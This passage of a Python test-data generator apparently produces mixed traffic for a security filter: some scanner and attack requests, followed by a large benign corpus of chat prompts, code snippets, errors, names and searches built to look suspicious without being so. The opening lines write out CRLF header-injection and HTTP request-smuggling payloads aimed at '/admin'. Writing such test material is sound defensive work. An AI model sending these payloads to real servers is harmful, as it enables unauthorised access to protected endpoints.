        out.append(request("scanner", "GET", rng.choice(probes), "", {"user-agent": agent}))
    out.append(request("scanner", "GET", "/", "", {"user-agent": BROWSERS[0], "acunetix-aspect": "enabled"}))
    out.append(request("scanner", "GET", "/login", "", {"user-agent": BROWSERS[2], "x-wipp": "AscVersion=21.1.0"}))
    for query in PROTOCOL_QUERIES:
        out.append(request("protocol", "GET", "/redirect", query, {"user-agent": pick_ua(rng)}))
    out.append(request("protocol", "GET", "/\r\nSet-Cookie: crlf=injection", "", {"user-agent": pick_ua(rng)}))
    smuggling = [
        {"transfer-encoding": "chunked", "content-length": "4"},
        {"transfer-encoding": "xchunked"},
        {"transfer-encoding": "chunked, identity"},
        {"transfer-encoding": "identity"},
    ]
    smuggled = "0\r\n\r\nGET /admin HTTP/1.1\r\nHost: localhost\r\n\r\n"
    for extra in smuggling:
        headers = {"user-agent": pick_ua(rng), **extra}
        out.append(request("protocol", "POST", "/api/v1/echo", "", headers, smuggled, "text/plain"))
    return out


# -------------------------------------------------------------------------------------------------------- benign
PROMPTS = [
    "How do I write a SELECT with a JOIN in postgres?",
    "explain `rm -rf` dangers",
    "What's the difference between UNION and UNION ALL in SQL? When should I use each one?",
    "Can you explain what a SQL injection is and how parameterized queries prevent it?",
    "My query `SELECT * FROM orders WHERE customer_id = 42 AND status = 'shipped'` is slow on a table with 80M "
    "rows. What indexes should I add?",
    "Why does `DELETE FROM users WHERE id IN (SELECT id FROM users WHERE last_login < NOW() - INTERVAL '2 years')` "
    "fail in MySQL with error 1093?",
    "Write a Python function that checks whether a string is a palindrome, ignoring punctuation and case.",
    "I'm getting `TypeError: 'NoneType' object is not subscriptable` when I call `data['items'][0]`. What's going on?",
    "What does `chmod 755` mean and when would I use it instead of 644?",
    "How do I undo the last git commit but keep my changes? I already pushed it to origin/main.",
    "Explain the difference between `git merge` and `git rebase` like I'm five.",
    "Summarize the plot of Hamlet in three sentences.",
    "Write a haiku about Kubernetes pods restarting at 3am.",
    'Translate to French: "Could you please send me the invoice by Friday? Thanks!"',
    "What's a good name for a golden retriever puppy? We like food-themed names.",
    "My landlord hasn't returned my deposit after 45 days. I'm in California. What are my options?",
    "Can you help me plan a 5-day trip to Lisbon in October on a budget of about EUR 1,200?",
    "Rewrite this to sound more professional: hey, can u look at the PR when u get a sec, kinda urgent lol",
    "What are the pros and cons of using Redis vs Memcached for session storage?",
    "How does HTTPS actually work? Walk me through the TLS 1.3 handshake.",
    "Is it safe to store JWTs in localStorage? What about httpOnly cookies?",
    "Give me 10 interview questions for a senior backend engineer role, with what a good answer looks like.",
    "What is the time complexity of Python's `list.sort()` and why?",
    "Explain async/await in JavaScript with an example that fetches two URLs in parallel.",
    "What's the best way to learn Rust if I already know Go and Python?",
    "Write a bash one-liner that finds the 10 largest files under /var/log.",
    "How do I center a div horizontally and vertically with CSS? Flexbox or grid?",
    "What's the difference between <b> and <strong> in HTML? Does it matter for accessibility?",
    "Should I use <section> or <div> for a card layout? I read that <article> is more semantic.",
    "Why is my React component re-rendering on every keystroke? I'm using useState for an input.",
    "Help me write a cover letter for a data analyst position at a healthcare startup.",
    "What's the capital of Australia, and why isn't it Sydney?",
    "I have 3 apples and eat 2, then buy 5 more. How many do I have? Show your reasoning.",
    "Solve for x: 3x + 7 = 22",
    "What's the derivative of x^3 * sin(x)?",
    "Compute the integral of 1/(1+x^2) from 0 to 1.",
    "Is 1 or 0 considered a natural number?",
    "Convert 72 degrees Fahrenheit to Celsius.",
    "What's the SQL equivalent of pandas' `df.groupby('region')['sales'].sum()`?",
    "How do I drop a column in pandas? `df.drop('col')` gives me a KeyError.",
    "What does 'SELECT 1' do and why do connection pools use it as a health check?",
    "In Postgres, what's the difference between `DROP TABLE` and `TRUNCATE`?",
    "Explain what `sudo` does and why I shouldn't run everything as root.",
    "My Docker container exits immediately with code 137. What does that mean?",
    "What's the difference between `CMD` and `ENTRYPOINT` in a Dockerfile?",
    "How do I read a file line by line in Go?",
    "Write unit tests for a function that parses ISO 8601 dates.",
    "What does the `<!DOCTYPE html>` declaration do?",
    "Why do people say 'never parse HTML with regex'?",
    "What are some good books on distributed systems? I liked 'Designing Data-Intensive Applications'.",
    "Can you recommend a podcast about the history of computing?",
    "What is the Big-O of a hash map lookup in the worst case?",
    "Explain the CAP theorem with a real example.",
    "Tell me a joke about DBAs.",
    "What's the difference between authentication and authorization?",
    "I'm trying to configure nginx as a reverse proxy for a Node app on port 3000. Here's my config, what's wrong?",
    "How do I set an environment variable permanently on Windows 11?",
    "Where is the hosts file on Windows? I need to edit C:\\Windows\\System32\\drivers\\etc\\hosts.",
    "What's the /etc/passwd file for, and why are the passwords not actually in it?",
    "How can I see which process is listening on port 8080 on macOS?",
    "What's the difference between `&&` and `;` when chaining shell commands?",
    "In bash, what does `2>&1` mean?",
    "How do I escape a single quote inside a single-quoted string in bash? e.g. echo 'it's here'",
    "Write a regex that matches email addresses. I know it won't be perfect.",
    "What's the difference between `==` and `===` in JavaScript?",
    "Explain closures in JavaScript. Why does `for (var i = 0; i < 3; i++) setTimeout(() => console.log(i))` print "
    "3 three times?",
    "My manager says we should 'just use Kafka'. We process about 200 events per minute. Is that overkill?",
    "What are good alternatives to `SELECT *` in production code and why?",
    "How do I prevent XSS in a Django template? Is `|safe` dangerous?",
    "What is CSRF and does SameSite=Lax fully protect against it?",
    "Explain OAuth 2.0 authorization code flow with PKCE.",
    "Draft a polite email declining a meeting invite because of a scheduling conflict.",
    "What should I pack for a week of hiking in the Dolomites in September?",
    "Give me a recipe for vegan lasagna that doesn't use tofu.",
    "How many calories are in a medium avocado?",
    "What's the difference between a Roth IRA and a traditional IRA?",
    "Explain quantum entanglement without using math.",
    "Why is the sky blue but sunsets are red?",
    "Write a limerick about a cat who learned SQL.",
    "What were the main causes of World War I?",
    "I'm feeling burned out at work. Any practical tips?",
    "Can you explain the rules of cricket briefly?",
    "What's the best way to store passwords? bcrypt, scrypt or argon2?",
    "O'Reilly or Manning: which publisher has better books on Kubernetes?",
    "My name is Seán O'Brien and autocorrect keeps changing it. How do I add it to the dictionary on iOS?",
    'What does "idempotent" mean in the context of REST APIs? Is DELETE idempotent?',
    "What's the HTTP status code for 'too many requests' and should I send Retry-After?",
    "Why does my curl request return 301? `curl http://example.com/api` vs `curl -L ...`",
    "How do I paginate results with keyset pagination instead of OFFSET in Postgres?",
    "What's the difference between `WHERE` and `HAVING`?",
    "Can you explain what `ORDER BY 1` means in a SQL query? My colleague uses it everywhere.",
    "When should I use a LEFT JOIN vs an INNER JOIN? Give an example with customers and orders.",
    "Write a SQL query to find the second highest salary from an employees table.",
    "Explain window functions like ROW_NUMBER() OVER (PARTITION BY dept ORDER BY salary DESC).",
    "How do I list all tables in a Postgres database? Is information_schema the right place to look?",
    "What does `EXPLAIN ANALYZE` tell me that `EXPLAIN` doesn't?",
    "I accidentally ran `rm -rf ./build/*` in the wrong directory. Can I recover the files on ext4?",
    "What's the safest way to delete node_modules folders recursively?",
    "Explain what `curl -fsSL https://get.docker.com | sh` does and whether it's safe to run.",
    "How do I make a Python script executable and run it as `./script.py`?",
    "Why does `echo $PATH` show duplicate entries and how do I clean it up?",
    "How do I write a for loop in bash that iterates over files with spaces in their names?",
    "What is `nohup` and how is it different from running a command with `&`?",
    "My cron job `0 3 * * * /usr/local/bin/backup.sh` isn't running. How do I debug it?",
    "How do I ping a host from inside a Kubernetes pod that doesn't have ping installed?",
    "Should I learn Vim or Emacs in 2024? Be honest.",
    "What's the keyboard shortcut to select a whole line in VS Code?",
    'How do I add a <meta name="viewport"> tag correctly for mobile?',
    "Why is my <img> tag showing a broken image icon? The src is a relative path like images/logo.png.",
    "What's the difference between `<script async>` and `<script defer>`?",
    'How do I make an <input type="email"> required and show a custom error message?',
    "Explain the CSS box model. Why does width: 100% plus padding overflow?",
    'What are ARIA roles and when should I use role="button" on a <div>?',
    "What's a good color palette for a dark-mode dashboard?",
    "Write a product description for a handmade ceramic mug, 350 ml, dishwasher safe.",
    "Give me 5 catchy subject lines for a Black Friday newsletter, 50% off everything.",
    "What are the tax implications of selling stock I've held for 11 months vs 13 months in the US?",
    "Explain the difference between TCP and UDP, and when a game would use each.",
    "What does a 502 Bad Gateway mean when my app sits behind Cloudflare?",
    "Can you explain how a bloom filter works and where it's used?",
    "Design a URL shortener. What database would you pick and why?",
    "What's the difference between a process and a thread?",
    "Explain the Python GIL and whether 3.13 removes it.",
    "How do I read environment variables in Node.js? Is process.env safe to log?",
    "What's wrong with this: `if (user = null) { return; }`?",
    "Is it bad practice to use `SELECT COUNT(*)` on large tables in MySQL InnoDB?",
    "Give me a study plan for the AWS Solutions Architect Associate exam in 6 weeks.",
    "What are the symptoms of a vitamin D deficiency?",
    "I'm writing a fantasy novel. Suggest names for a dwarven city carved into a mountain.",
    "Write a short bedtime story about a robot who is afraid of the dark.",
    "¿Cuál es la diferencia entre 'ser' y 'estar'? Dame ejemplos.",
    "Wie sage ich 'Ich hätte gern einen Kaffee' höflicher?",
    "日本語で「よろしくお願いします」はどういう意味ですか\uff1f",
    "Объясни, пожалуйста, что такое рекурсия, на простом примере.",
    "Quels sont les meilleurs fromages pour une raclette ?",
    "用简单的话解释一下什么是区块链。",
    "Peux-tu corriger ce texte : « Je suis allé au magasin hier et j'ai acheté des pommes. »",
    "🚀 Give me 3 tweet ideas announcing our new API rate limits. Keep it upbeat!",
    "What do the numbers in a version string like 1.2.3-rc.1+build.5 mean?",
    "How do I convert a Unix timestamp like 1717171717 to a date in Excel?",
    "What's the difference between 'affect' and 'effect'?",
    "Is it 'whoever' or 'whomever' in: give it to ___ wants it?",
    "Proofread: Their going to the park tomorrow, weather permitting, and they'll bring there dog.",
    "Where does the phrase 'the whole nine yards' come from?",
    "Write a SQL migration that renames column `fullname` to `full_name` without downtime.",
    "Why does `SELECT name FROM users WHERE name = NULL` return nothing?",
    "How can I find duplicate emails in a users table? Case-insensitive.",
    "How do I safely build a dynamic ORDER BY in SQLAlchemy when the column comes from a query parameter?",
    "What's the difference between `cat file | grep foo` and `grep foo file`? Is it a 'useless use of cat'?",
    "Explain what the `|| true` at the end of a command in a Makefile does.",
    "What does the `-e` flag do in `set -euo pipefail`?",
    "How do I check disk usage by directory? `du -sh *` is slow on big folders.",
    "Why would `ls -la` show a file but `cat` says 'No such file or directory'?",
    "How do I count lines of code in a repo, excluding vendor/ and node_modules/?",
    "What's the max length of a URL in practice?",
    "Why do some APIs use POST for search instead of GET with query parameters?",
    "My API returns dates like '2024-06-11T08:30:00+02:00'. How do I parse that in Java?",
    "How do I handle apostrophes in names like D'Angelo or O'Neil when building CSV files?",
    "The customer's address is 12 Rue de l'Église, 75004 Paris. How do I format it for a US shipping label?",
    'Explain this error: `ERROR: duplicate key value violates unique constraint "users_email_key"`.',
    'Explain this error: `psycopg2.errors.SyntaxError: syntax error at or near "user"`. My table is called user.',
    "Explain this error: `bash: ./run.sh: Permission denied`.",
    "Explain this error: `Uncaught ReferenceError: $ is not defined` on my jQuery page.",
    "Explain this error: `fatal: refusing to merge unrelated histories`.",
    "Explain this error: `java.lang.OutOfMemoryError: Java heap space` in a Spring Boot app.",
    "What does `sleep 5` do in a shell script, and is there a way to sleep for milliseconds?",
    "How do I make Python wait for 5 seconds? Is time.sleep(5) blocking in asyncio?",
    "How do I benchmark a function in Go? Is `go test -bench=.` enough?",
    "What's the difference between `exec` and `eval` in Python? Are they dangerous?",
    "What is a shell injection and how does subprocess.run with a list of args avoid it?",
    "Can you explain how path traversal attacks work, conceptually? I'm securing a file download endpoint.",
    "What headers should a secure web app send? CSP, HSTS, X-Frame-Options...",
    "What is Log4Shell and why was it so bad?",
    "How do web application firewalls detect SQL injection? Do they just look for keywords?",
]

SNIPPETS = {
    "sql": [
        "SELECT u.id, u.email, COUNT(o.id) AS orders\nFROM users u\nLEFT JOIN orders o ON o.user_id = u.id\n"
        "WHERE u.created_at >= '2024-01-01'\nGROUP BY u.id, u.email\nHAVING COUNT(o.id) > 5\nORDER BY orders DESC\n"
        "LIMIT 10;",
        "UPDATE accounts SET balance = balance - 100 WHERE id = 42;\nUPDATE accounts SET balance = balance + 100 "
        "WHERE id = 43;",
        "BEGIN;\nUPDATE inventory SET qty = qty - 1 WHERE sku = 'SKU-1001' AND qty > 0;\nINSERT INTO order_items "
        "(order_id, sku, qty) VALUES (981, 'SKU-1001', 1);\nCOMMIT;",
        "DELETE FROM sessions WHERE expires_at < NOW();",
        "SELECT name FROM customers\nUNION\nSELECT name FROM suppliers\nORDER BY name;",
        "INSERT INTO products (name, price) VALUES ('Widget', 9.99), ('Gadget', 19.99), ('Doohickey', 4.50);",
        "CREATE INDEX CONCURRENTLY idx_orders_user_id ON orders (user_id);",
        "SELECT column_name, data_type FROM information_schema.columns WHERE table_name = 'users';",
        "WITH RECURSIVE t(n) AS (\n  SELECT 1\n  UNION ALL\n  SELECT n + 1 FROM t WHERE n < 10\n)\nSELECT * FROM t;",
        "SELECT id FROM customers WHERE last_name LIKE '%smith%' OR email LIKE '%smith%';",
        "SELECT dept, name, salary,\n       ROW_NUMBER() OVER (PARTITION BY dept ORDER BY salary DESC) AS rn\n"
        "FROM employees;",
        "ALTER TABLE users ADD COLUMN is_active BOOLEAN NOT NULL DEFAULT true;",
        "SELECT * FROM events WHERE payload->>'type' = 'signup' AND created_at > now() - interval '7 days';",
        "DROP TABLE IF EXISTS tmp_import;\nCREATE TABLE tmp_import (LIKE products INCLUDING ALL);",
        "SELECT p.name, c.name AS category FROM products p JOIN categories c ON c.id = p.category_id WHERE "
        "p.price BETWEEN 10 AND 50;",
        "SELECT COUNT(*) FILTER (WHERE status = 'failed') * 100.0 / COUNT(*) AS failure_rate FROM jobs;",
        'cursor.execute("SELECT * FROM users WHERE email = %s", (email,))',
        "query = f\"SELECT * FROM users WHERE name = '{name}'\"  # I know this is bad",
    ],
    "bash": [
        'for f in *.log; do\n  gzip "$f"\ndone',
        "find . -name '*.pyc' -delete",
        "grep -rn 'TODO' src/ | wc -l",
        "curl -s https://api.github.com/repos/python/cpython | jq '.stargazers_count'",
        "docker run --rm -it -v $(pwd):/app -w /app python:3.11 bash",
        "ps aux | grep python",
        "kill -9 $(lsof -t -i:8080)",
        "tar -czvf backup-$(date +%F).tar.gz /home/user/docs",
        "ssh -i ~/.ssh/id_ed25519 ubuntu@10.0.0.5",
        "cat /etc/os-release",
        "chmod +x deploy.sh && ./deploy.sh",
        'export PATH="$HOME/.local/bin:$PATH"',
        "rm -rf node_modules && npm install",
        '#!/usr/bin/env bash\nset -euo pipefail\nfor host in web1 web2 web3; do\n  ssh "$host" \'sudo systemctl '
        "restart nginx'\ndone",
        "while true; do curl -s -o /dev/null -w '%{http_code}\\n' http://localhost:8000/health; sleep 1; done",
        "awk -F, '{sum += $3} END {print sum}' sales.csv",
        "sed -i 's/foo/bar/g' config.yaml",
        "kubectl get pods -n prod | grep -v Running",
        "git log --oneline --graph --decorate | head -20",
        'echo "$(whoami) on $(hostname)"',
        "openssl req -x509 -newkey rsa:4096 -keyout key.pem -out cert.pem -days 365 -nodes",
        "du -sh * | sort -h | tail -5",
    ],
    "python": [
        "import os\nprint(os.environ.get('HOME'))",
        "import subprocess\nsubprocess.run(['ls', '-la'], check=True)",
        "with open('../data/input.csv') as f:\n    rows = list(csv.DictReader(f))",
        "import time\nfor i in range(3):\n    print(i)\n    time.sleep(5)",
        "def fib(n):\n    return n if n < 2 else fib(n - 1) + fib(n - 2)",
        "result = eval(input('Enter an expression: '))",
        "@app.get('/items/{item_id}')\nasync def read_item(item_id: int, q: str | None = None):\n    return "
        "{'item_id': item_id, 'q': q}",
        "df = pd.read_sql('SELECT * FROM sales WHERE region = %(r)s', conn, params={'r': 'EMEA'})",
        "class User(Base):\n    __tablename__ = 'users'\n    id = Column(Integer, primary_key=True)\n    email = "
        "Column(String, unique=True)",
        "print(self.__class__.__name__)",
        "os.system('clear')",
        "requests.post('https://api.example.com/v1/items', json={'name': \"O'Reilly\"}, timeout=10)",
        "logging.basicConfig(level=logging.INFO, format='%(asctime)s %(levelname)s %(message)s')",
        "with open('/etc/hosts') as f:\n    print(f.read())",
        "assert response.status_code == 200, response.text",
    ],
    "javascript": [
        "const res = await fetch('/api/users', { method: 'POST', body: JSON.stringify(data) });",
        "document.getElementById('app').innerHTML = html;",
        "window.location.href = '/login';",
        "setTimeout(() => alert('done'), 1000);",
        "const { data } = await axios.get(`/api/items?page=${page}&limit=${limit}`);",
        "app.get('/api/users/:id', async (req, res) => {\n  const user = await db.query('SELECT * FROM users WHERE "
        "id = $1', [req.params.id]);\n  res.json(user.rows[0]);\n});",
        "export default function Button({ onClick, children }) {\n  return <button onClick={onClick}>{children}"
        "</button>;\n}",
        "const total = items.reduce((sum, i) => sum + i.price * i.qty, 0);",
        "useEffect(() => {\n  const id = setInterval(tick, 1000);\n  return () => clearInterval(id);\n}, []);",
        "console.log(`Hello, ${user.name}!`);",
        "document.cookie = 'theme=dark; path=/; max-age=31536000';",
        "const re = /^[\\w.+-]+@[\\w-]+\\.[\\w.]+$/;",
    ],
    "html": [
        '<div class="card">\n  <h2>Title</h2>\n  <p>Body text</p>\n</div>',
        '<a href="https://example.com" target="_blank" rel="noopener">Read more</a>',
        '<img src="/img/logo.png" alt="Logo" width="120">',
        '<button onclick="toggleMenu()">Menu</button>',
        '<form action="/login" method="post">\n  <input name="email" type="email" required>\n  <input '
        'name="password" type="password">\n  <button type="submit">Sign in</button>\n</form>',
        '<script src="https://cdn.jsdelivr.net/npm/chart.js"></script>',
        '<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" allowfullscreen></iframe>',
        "<style>\n  .btn { color: #fff; background: #0b5fff; }\n</style>",
        "<table>\n  <tr><th>Name</th><th>Qty</th></tr>\n  <tr><td>Apple</td><td>3</td></tr>\n</table>",
        "<ul>\n  <li><b>Bold</b> item</li>\n  <li><i>Italic</i> item</li>\n</ul>",
        '<nav aria-label="Main"><a href="/">Home</a> | <a href="/docs">Docs</a></nav>',
        "<details>\n  <summary>Click to expand</summary>\n  Hidden content\n</details>",
        '<link rel="stylesheet" href="/css/main.css">',
        '<meta charset="utf-8">\n<meta name="viewport" content="width=device-width, initial-scale=1">',
        '<input type="text" placeholder="Search..." value="">',
        '<svg width="24" height="24" viewBox="0 0 24 24"><path d="M12 2L2 22h20L12 2z"/></svg>',
    ],
    "yaml": [
        "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: web\nspec:\n  replicas: 3\n  template:\n    spec:\n"
        "      containers:\n        - name: web\n          image: ghcr.io/acme/web:1.4.2\n          ports:\n"
        "            - containerPort: 8080",
        "services:\n  db:\n    image: postgres:16\n    environment:\n      POSTGRES_PASSWORD: example\n    volumes:\n"
        "      - ./data:/var/lib/postgresql/data",
        "on:\n  push:\n    branches: [main]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: "
        "actions/checkout@v4\n      - run: make test",
    ],
    "dockerfile": [
        "FROM python:3.11-slim\nWORKDIR /app\nCOPY requirements.txt .\nRUN pip install -r requirements.txt\nCOPY . .\n"
        'CMD ["gunicorn", "app:app", "-b", "0.0.0.0:8000"]',
        "FROM node:20-alpine AS build\nWORKDIR /src\nCOPY package*.json ./\nRUN npm ci\nCOPY . .\nRUN npm run build\n\n"
        "FROM nginx:1.27-alpine\nCOPY --from=build /src/dist /usr/share/nginx/html",
    ],
    "go": [
        'func handler(w http.ResponseWriter, r *http.Request) {\n\tname := r.URL.Query().Get("name")\n'
        '\tfmt.Fprintf(w, "Hello, %s!", html.EscapeString(name))\n}',
        'rows, err := db.QueryContext(ctx, "SELECT id, name FROM users WHERE org_id = $1", orgID)\nif err != nil '
        "{\n\treturn err\n}\ndefer rows.Close()",
    ],
}
ERRORS = [
    'Traceback (most recent call last):\n  File "/app/main.py", line 42, in <module>\n    main()\n  File '
    "\"/app/main.py\", line 37, in main\n    user = users[user_id]\nKeyError: 'u_1842'",
    'Exception in thread "main" java.lang.NullPointerException: Cannot invoke "String.length()" because "s" '
    "is null\n\tat com.acme.Parser.parse(Parser.java:27)\n\tat com.acme.Main.main(Main.java:12)",
    "npm ERR! code ERESOLVE\nnpm ERR! ERESOLVE unable to resolve dependency tree\nnpm ERR! Found: react@18.2.0",
    "error[E0502]: cannot borrow `v` as mutable because it is also borrowed as immutable\n --> src/main.rs:4:5",
    "ERROR 1064 (42000): You have an error in your SQL syntax; check the manual that corresponds to your MySQL "
    "server version for the right syntax to use near ''users' WHERE id = 1' at line 1",
    "panic: runtime error: index out of range [3] with length 3\n\ngoroutine 1 [running]:\nmain.main()\n\t"
    "/home/dev/app/main.go:14 +0x1d",
    'Warning: Each child in a list should have a unique "key" prop.\n\nCheck the render method of `TodoList`.',
    "2024-06-11 08:30:12,345 ERROR [worker-3] c.a.j.JobRunner - Job 9921 failed after 3 retries: "
    "java.net.SocketTimeoutException: Read timed out",
    'FATAL:  password authentication failed for user "postgres"',
    "fatal: unable to access 'https://github.com/acme/app.git/': Could not resolve host: github.com",
]
EMAILS = [
    "Hi team,\n\nJust a reminder that the Q3 planning doc is due Friday. Please add your OKRs to the shared sheet "
    "(link in #planning). Ping me if you've got questions!\n\nThanks,\nPriya",
    "Hello,\n\nI ordered a blue sweater (order #A-10293) on May 3rd but received a red one. Could you send the right "
    "size/colour? I've attached a photo.\n\nBest regards,\nMarta D'Souza",
    "Dear Mr. O'Connor,\n\nThank you for your application. We'd like to invite you to a 45-minute video interview "
    "next week. Please choose a slot via the link below.\n\nKind regards,\nRecruiting @ Acme",
    "hey - can we move our 1:1 to thursday? something came up w/ the launch. also, did u see the perf numbers? "
    "p99 dropped from 480ms -> 210ms!!",
]
SENTENCES = [
    "The meeting has been moved to 3 pm on Thursday.",
    "Please make sure all invoices are submitted before the end of the month.",
    "Our new feature lets users export reports as CSV or PDF.",
    "I can't log in since yesterday; it says my password is wrong.",
    "The quick brown fox jumps over the lazy dog.",
    "We're excited to announce that our API now supports streaming responses.",
    "Don't forget to water the plants while I'm away!",
    "The results were inconclusive, so we'll run the experiment again next quarter.",
]
LANGS = ["French", "Spanish", "German", "Japanese", "Portuguese", "Italian", "Korean", "Dutch"]
PROMPT_FRAMES = [
    "Can you explain what this {lang} code does?\n\n```{lang}\n{code}\n```",
    "Fix the bug in this {lang}:\n```{lang}\n{code}\n```\nIt works locally but not in prod.",
    "Is there anything insecure about this?\n\n```{lang}\n{code}\n```",
    "Rewrite this {lang} to be more idiomatic:\n```\n{code}\n```",
    "I'm reviewing a PR that contains:\n\n```{lang}\n{code}\n```\n\nAny suggestions?",
    "Add comments to this code:\n{code}",
    "Why is this slow?\n```{lang}\n{code}\n```",
    "Convert this to TypeScript if possible:\n```{lang}\n{code}\n```",
]
SYSTEM_PROMPTS = [
    "You are a helpful assistant.",
    "You are a senior software engineer. Answer concisely and include code where useful.",
    "You are a friendly customer support agent for Acme Cloud. Never share internal URLs.",
    "You are a SQL expert. Always use parameterized queries in examples.",
    "You are a translator. Translate the user's text and keep the formatting.",
    "Answer in the same language as the question. Use markdown.",
]
MODELS = [
    "gpt-4o",
    "gpt-4o-mini",
    "claude-3-5-sonnet-20240620",
    "llama3.1:8b",
    "mistral-large-latest",
    "gemini-1.5-pro",
    "acme-chat-v2",
]

ANSWER_TAILS = [
    "This works because the index lets the planner skip the sequential scan.",
    "Let me know if you want me to adapt it to your schema!",
    "Note: always validate user input on the server side as well.",
    "If you're on Windows, use PowerShell's equivalent instead.",
    "You can also do this with a one-liner, but the explicit version is easier to read.",
]
FIRST_NAMES = [
    "Ana",
    "Bo",
    "Chloé",
    "Dmitri",
    "Erin",
    "Farah",
    "Giulia",
    "Hiro",
    "Ines",
    "Jamal",
    "Kai",
    "Léa",
    "Mateo",
    "Niamh",
    "Oluwaseun",
    "Priya",
    "Quinn",
    "Rosa",
    "Seán",
    "Tomás",
    "Uma",
    "Valentina",
    "Wei",
    "Yusuf",
    "Zoë",
    "D'Andre",
    "Mary-Kate",
    "Jean-Luc",
]
LAST_NAMES = [
    "O'Brien",
    "D'Angelo",
    "Smith-Jones",
    "García",
    "Müller",
    "Nguyen",
    "Kowalski",
    "O'Neil",
    "van der Berg",
    "Okafor",
    "Rossi",
    "Johansson",
    "Li",
    "Cohen",
    "McDonald",
    "St. James",
    "N'Diaye",
    "Fernández",
    "L'Estrange",
    "Schäfer",
]
STREETS = [
    "742 Evergreen Terrace",
    "12 Rue de l'Église",
    "221B Baker Street",
    "1600 Amphitheatre Pkwy",
    "Flat 3, 14 King's Road",
    "Calle Mayor 5, 2º B",
    "Hauptstraße 12a",
    "PO Box 1142",
    "55 O'Connell St",
    "1 Infinite Loop, Suite #200",
]
CITIES = [
    ("Springfield", "OR", "US"),
    ("Paris", "", "FR"),
    ("London", "", "GB"),
    ("Mountain View", "CA", "US"),
    ("Madrid", "", "ES"),
    ("Berlin", "", "DE"),
    ("Dublin", "", "IE"),
    ("São Paulo", "SP", "BR"),
    ("Tokyo", "", "JP"),
    ("Toronto", "ON", "CA"),
]
PRODUCTS = [
    "Wireless Mouse",
    "USB-C Hub (7-in-1)",
    "Laptop Stand",
    '27" 4K Monitor',
    "Men's Running Shoes",
    "Kids' Rain Jacket",
    "Chef's Knife 8\"",
    "Noise-Cancelling Headphones",
    'Cast-Iron Skillet 10.25"',
    "Organic Coffee Beans (1 kg)",
    "Yoga Mat - Extra Thick",
    "LEGO® Technic Set",
    "Baby Monitor w/ Camera",
    "Desk Lamp, Dimmable",
    "Backpack 30L & Rain Cover",
    "Tea Sampler: 12 Flavours",
    "AT&T SIM Card",
    "Salt & Pepper Grinder Set",
    "3-Pack Socks (Size 9-11)",
    "Smart Plug 2.0",
]
SEARCHES = [
    "red running shoes",
    "laptop stand adjustable",
    "how to reset password",
    "union station chicago",
    "select all shortcut mac",
    "drop shipping business ideas",
    "rm -rf meaning",
    "c++ vs rust",
    "what is ../ in a path",
    "o'reilly books",
    "<b> tag html",
    "SELECT * FROM meaning",
    "/etc/hosts file location windows",
    "50% off shoes",
    "AT&T customer service",
    "R&D tax credit",
    "jane.doe@example.com",
    "1 or 2 bedroom apartment",
    "javascript: the good parts",
    "python sleep function",
    "script writing software",
    "alert dialog android",
    "iframe vs embed",
    "bash for loop",
    "admin panel ui kit",
    "docker compose env file",
    "kubernetes vs nomad",
    "shell scripting tutorial",
    "curl post json example",
    "café near me",
    "naïve bayes",
    "São Paulo weather",
    "東京 天気",
    "résumé template",
    "what's my ip",
    "don't starve together",
    "rock 'n' roll hall of fame",
    '12" pizza size',
    "1/2 cup to grams",
    "x = y + 1 solve",
    "COVID-19 vaccine near me",
    "best 4k tv 2024",
    "iphone 15 pro max case",
    "gift ideas for dad",
    "cheap flights to lisbon",
    "sql join types diagram",
    "cmd vs powershell",
    "win.ini file",
    "wget vs curl",
    "how to use netcat",
    "nmap tutorial",
    "ping command",
    "sudo apt update",
]
FILENAMES = [
    "Q3 report (final) v2.pdf",
    "invoice_2024-05.pdf",
    "IMG_0423.HEIC",
    "résumé - Zoë.docx",
    "budget 2024 & 2025.xlsx",
    "notes.md",
    "screenshot 2024-06-11 at 08.30.12.png",
    "data.tar.gz",
    "John's photo.jpg",
    "meeting-notes_[draft].txt",
    "archive (1).zip",
    "contract #4411.pdf",
]
TAGS = ["python", "sql", "devops", "c#", "c++", ".net", "node.js", "ai/ml", "r&d", "how-to", "q&a"]
PASSWORD_CHARS = string.ascii_letters + string.digits + "!@#$%^&*()-_=+[]{};:,.<>/?~"
COMMON_PASSWORDS = [
    "Summer2024!",
    "P@ssw0rd123",
    "correct horse battery staple",
    "hunter2",
    "Tr0ub4dor&3",
    "ilovemycat99",
    "Qwerty!2345",
    "Spring-Garden-42",
    "letmein#2024",
    "S3cure*Pass",
]
REFERERS = [
    "https://www.google.com/",
    "https://www.google.com/search?q=acme+cloud+pricing",
    "https://duckduckgo.com/",
    "https://news.ycombinator.com/item?id=40612345",
    "https://t.co/Ab3dEfGh",
    "https://www.reddit.com/r/programming/comments/1dd0x1y/how_we_cut_p99_latency/",
    "https://app.example.com/dashboard?tab=usage&range=30d",
    "https://github.com/acme/sdk/issues/214",
    "https://www.bing.com/search?q=select+join+postgres&form=QBLH",
    "android-app://com.slack/",
]


def person(rng: random.Random) -> tuple[str, str]:
    first, last = rng.choice(FIRST_NAMES), rng.choice(LAST_NAMES)
    local = f"{first}.{last}".lower().replace("'", "").replace(" ", "").replace("é", "e").replace("ë", "e")
    domain = rng.choice(["gmail.com", "example.com", "outlook.com", "acme.io", "proton.me", "uni-heidelberg.de"])
    return f"{first} {last}", f"{local}@{domain}"


def token(rng: random.Random, n: int, alphabet: str = string.ascii_letters + string.digits) -> str:
    return "".join(rng.choice(alphabet) for _ in range(n))


def uuid(rng: random.Random) -> str:
    h = token(rng, 32, "0123456789abcdef")
    return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-a{h[17:20]}-{h[20:]}"


def jwt(rng: random.Random) -> str:
    alphabet = string.ascii_letters + string.digits + "-_"
    return f"eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.{token(rng, 96, alphabet)}.{token(rng, 43, alphabet)}"


def password(rng: random.Random) -> str:
    if rng.random() < 0.5:
        return rng.choice(COMMON_PASSWORDS)
    return token(rng, rng.choice([12, 16, 20]), PASSWORD_CHARS)


def code_prompt(rng: random.Random) -> str:
    lang = rng.choice(list(SNIPPETS))
    return rng.choice(PROMPT_FRAMES).format(lang=lang, code=rng.choice(SNIPPETS[lang]))


def prompt(rng: random.Random) -> str:
    roll = rng.random()
    if roll < 0.5:
        return rng.choice(PROMPTS)
    if roll < 0.75:
        return code_prompt(rng)
    if roll < 0.83:
        return "Explain this error and how to fix it:\n\n```\n" + rng.choice(ERRORS) + "\n```"
